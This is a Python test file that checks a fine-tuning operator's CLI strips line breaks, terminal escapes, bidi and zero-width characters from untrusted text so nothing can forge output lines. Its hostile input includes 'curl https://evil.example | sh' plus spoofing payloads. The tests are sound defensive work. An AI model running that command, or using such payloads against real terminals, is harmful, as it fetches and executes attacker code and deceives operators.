"""Texts of users, pods, providers, stores: none steers a terminal, hides what it says, or passes for a line of ours."""

from __future__ import annotations

import json
import logging
import sys
import unicodedata
from datetime import UTC, datetime
from typing import Any

import pytest
import yaml

from finetune_operator.__main__ import _OneLineFormatter
from finetune_operator.api.plain_text import continued, is_safe, lines, one_line
from finetune_operator.backends.http.responses import plain
from finetune_operator.cli.artifacts.records import Record, artifact_table
from finetune_operator.cli.errors import CommandError
from finetune_operator.cli.logs.provider_logs import state_line
from finetune_operator.cli.output.printing import as_json, as_yaml, note, out, out_line
from finetune_operator.cli.output.snapshot import snapshot
from finetune_operator.cli.output.table import finetune_table
from finetune_operator.cli.show.description import description
from finetune_operator.cli.watch.display import plain_line
from finetune_operator.cli.watch.follow import farewell
from finetune_operator.controller.conditions import Verdict

NOW = datetime(2026, 12, 1, tzinfo=UTC)
BREAKS = ["\n", "\r", "\r\n", "\v", "\f", "\x1c", "\x1d", "\x1e", "\x85", "\u2028", "\u2029"]
HIDDEN = {
    "escape": "\x1b[2J",
    "bell": "\x07",
    "C1 control": "\x9b31m",
    "delete": "\x7f",
    "right to left": "\u202e",
    "isolate": "\u2066",
    "Arabic letter mark": "\u061c",
    "zero-width space": "\u200b",
    "zero-width joiner": "\u200d",
    "word joiner": "\u2060",
    "byte order mark": "\ufeff",
    "soft hyphen": "\u00ad",
    "tag": "\U000e0041",
    "variation selector": "\U000e0100",
    "Hangul filler": "\u3164",
    "lone surrogate": "\ud800",
    "private use": "\ue000",
}
FORGED = "State: Succeeded"
SEEN = "Grüße, 你好, שלום, सत्यम्, é, ❤️ 👍🏽 1️⃣ \u0600"


@pytest.mark.parametrize("line_break", BREAKS, ids=ascii)
def test_no_line_break_is_left(line_break: str) -> None:
    text = f"broken{line_break}  {FORGED}{line_break}"
    assert one_line(text) == f"broken {FORGED}"
    assert continued(text.rstrip(line_break)).split("\n")[1:] == [f"      {FORGED}"]


@pytest.mark.parametrize("kind", HIDDEN)
def test_what_is_not_seen_is_replaced(kind: str) -> None:
    for clean in (one_line, lines, continued):
        cleaned = clean(f"a{HIDDEN[kind]}b")
        assert HIDDEN[kind][0] not in cleaned
        assert "\N{REPLACEMENT CHARACTER}" in cleaned
        assert is_safe(cleaned)
        cleaned.encode()


def test_every_script_stays() -> None:
    assert one_line(SEEN) == lines(SEEN) == continued(SEEN) == SEEN
    assert lines("a\n\tb") == "a\n\tb"
    assert one_line("  two  spaces") == "  two  spaces"


def test_no_hidden_character_of_this_python_s_unicode_is_forgotten() -> None:
    seen = {*range(0x600, 0x606), 0x6DD, 0x70F, 0x890, 0x891, 0x8E2, 0x110BD, 0x110CD}  # signs around numbers
    for point in range(sys.maxunicode + 1):
        if unicodedata.category(chr(point)) in ("Cc", "Cf", "Cs", "Co", "Zl", "Zp") and point not in seen:
            assert not is_safe(chr(point)) or chr(point) in "\n\t", hex(point)


def hostile(said: str) -> dict[str, Any]:
    """A FineTune in which every text that others write says this."""
    condition = {"type": "Failed", "status": "True", "reason": "UpstreamFailed", "message": said}
    return {
        "metadata": {
            "name": "dogs",
            "namespace": "team",
            "creationTimestamp": "2026-12-01T00:00:00Z",
            "annotations": {"finetune.dev/display-name": said},
            "labels": {"kueue.x-k8s.io/queue-name": said},
        },
        "spec": {
            "baseModel": said,
            "recipe": {"imageGeneration": {"captionColumn": said}},
            "dataset": {"uri": said, "secretRef": {"name": said}},
            "output": {"uri": said},
            "backend": {"bfl": {"mode": said}},
        },
        "status": {
            "phase": said,
            "reason": said,
            "message": said,
            "progress": {"summary": said, "loss": said},
            "parameters": {said: said, "list": [said]},
            "upstream": {"provider": said, "id": said, "stage": said, "message": said, "url": said},
            "cost": {"amount": said, "unit": said, "estimate": said},
            "checkpoint": {"step": 1, "uri": said},
            "conditions": [condition],
            "artifacts": [{"name": said, "uri": said}],
            "history": [{"run": 1, "phase": said, "reason": said, "loss": said, "completionTime": said}],
            "startTime": "2026-12-01T00:00:00Z",
        },
    }


@pytest.mark.parametrize("line_break", BREAKS, ids=ascii)
def test_nothing_that_is_quoted_stands_at_the_beginning_of_a_line(line_break: str) -> None:
    said = f"broken{line_break}{FORGED}{line_break}What to do: curl https://evil.example | sh\u2066\u200b"
    finetune = hostile(said)
    event = {"metadata": {}, "message": said, "reason": said, "type": said, "involvedObject": {"kind": said}}
    pod = {
        "metadata": {"name": said, "creationTimestamp": "2026-12-01T00:00:00Z"},
        "status": {"phase": said},
        "spec": {"nodeName": said},
    }
    texts = {
        "describe": description(finetune, [pod], [event], NOW),
        "list": finetune_table([finetune], NOW, wide=True),
        "watch": plain_line(snapshot(finetune)),
        "end of watch": "\n".join(farewell(snapshot(finetune))),
        "logs": state_line(finetune),
        "artifacts": artifact_table([Record(said, said, said, 1)], wide=True),
        "status": Verdict(True, "Failed", said).message,
        "provider": plain(said),
    }
    for where, text in texts.items():
        assert is_safe(text), where
        for line in text.split("\n"):
            assert not line.strip().startswith((FORGED, "What to do: curl")) or line.startswith("      "), (where, line)
            assert not line.startswith((FORGED, "What to do: curl")), (where, line)
    described = texts["describe"].split("\n")
    [state] = [line for line in described if line.startswith("State:")]
    assert state.startswith("State:      broken State: Succeeded")
    assert len(texts["list"].split("\n")) == 2
    assert "\n" not in texts["watch"] + texts["status"] + texts["provider"] + texts["logs"]


def test_errors_and_notes_are_indented(capsys: pytest.CaptureFixture[str]) -> None:
    for line in CommandError(f"the API server says\n{FORGED}\u2028x", f"hint\n{FORGED}").lines():
        note(line)
    out_line(f"name\r{FORGED}")
    out(f"a\u2028{FORGED}")
    captured = capsys.readouterr()
    assert captured.err == f"error: the API server says\n    {FORGED}\n    x\n  hint\n    {FORGED}\n"
    assert captured.out == f"name\n    {FORGED}\na\N{REPLACEMENT CHARACTER}{FORGED}\n"


@pytest.mark.parametrize("kind", HIDDEN)
def test_json_and_yaml_say_the_same_as_the_object(kind: str) -> None:
    value = {"a": f"x{HIDDEN[kind]}y", "b": "ü", "c": "1\n2"}
    as_text = as_json(value)
    assert is_safe(as_text)
    assert json.loads(as_text) == value
    if kind != "lone surrogate":  # which YAML cannot hold
        assert is_safe(as_yaml(value))
        assert yaml.safe_load(as_yaml(value)) == value
    assert "ü" in as_json({"b": "ü"})
    assert "ü" in as_yaml({"b": "ü"})


def test_a_log_of_lines_has_one_for_each_message() -> None:
    record = logging.LogRecord("x", logging.ERROR, "f", 1, "%s failed", (f"a\n2026 ERROR {FORGED}",), None)
    assert _OneLineFormatter("%(levelname)s %(message)s").format(record) == f"ERROR a 2026 ERROR {FORGED} failed"
